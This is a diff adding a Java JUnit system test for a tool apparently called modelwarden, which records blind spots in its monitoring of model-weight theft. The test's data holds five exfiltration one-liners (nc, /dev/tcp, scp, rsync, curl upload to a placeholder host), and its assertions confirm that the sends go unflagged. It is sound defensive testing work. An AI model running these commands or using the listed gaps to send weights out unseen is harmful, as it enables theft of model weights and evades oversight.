@@ -1,0 +1,76 @@
+// SPDX-License-Identifier: Apache-2.0
+package io.modelwarden.system;
+
+import static io.modelwarden.system.Stage.MODEL_BYTES;
+import static io.modelwarden.system.Stage.nameOf;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.nio.file.Path;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+/**
+ * Thefts by two programs, of which one reads and the other sends: what is seen of them, and what is
+ * not, as docs/blind-spots.md says. When one is closed its line there goes with its case here.
+ */
+@Tag("system")
+class ProgramBlindSpotsTest {
+
+  @TempDir static Path folder;
+  private static Outside outside;
+  private static Stage stage;
+
+  @BeforeAll
+  static void start() throws IOException {
+    outside = new Outside(folder);
+    stage = new Stage(folder, "");
+  }
+
+  @AfterAll
+  static void stop() {
+    stage.close();
+    outside.close();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = ';',
+      quoteCharacter = '`',
+      textBlock =
+          """
+          pipe to another program          ; gzip  ; gzip -1c MODEL | nc.openbsd -N HOST 4433
+          pipe to a child of the reader    ; tar   ; tar -czPf - MODEL >/dev/tcp/HOST/4433
+          unix socket to a child, by scp   ; scp   ; scp OPTIONS MODEL root@HOST:stolen
+          unix socket to a child, by rsync ; rsync ; rsync -e "ssh OPTIONS" MODEL root@HOST:stolen
+          copy on disk                     ; cp    ; cp MODEL COPY && curl -sS -T COPY http://HOST:8081/stolen
+          """)
+  void modelHandedToAnotherProcess_isReadInSightAndSentUnseen(
+      String blindSpot, String reader, String command) throws IOException {
+    Path model = stage.model(reader);
+    String name = nameOf(model);
+    outside.clear();
+    Stage.run(
+        command
+            .replace("MODEL", model.toString())
+            .replace("COPY", folder.resolve("copy").toString())
+            .replace("OPTIONS", outside.sshOptions)
+            .replace("HOST", PublicNamespace.OUTSIDE));
+    RunningCollector.await("the loot", () -> outside.received() >= MODEL_BYTES);
+    stage.settle(name);
+
+    assertThat(stage.read(model)).isEqualTo(MODEL_BYTES);
+    assertThat(stage.total("modelwarden.file.io", model.toString(), reader)).isEqualTo(MODEL_BYTES);
+    long local = stage.total("modelwarden.network.io", name, reader, "unix", "local");
+    if (blindSpot.startsWith("unix socket")) {
+      assertThat(local).isBetween(MODEL_BYTES, MODEL_BYTES * 101 / 100);
+    }
+    assertThat(stage.total("modelwarden.network.io", name)).isEqualTo(local);
+    assertThat(stage.spans("send tcp", name)).isEmpty();
+    assertThat(stage.findings(name)).isEmpty();
+  }
+}
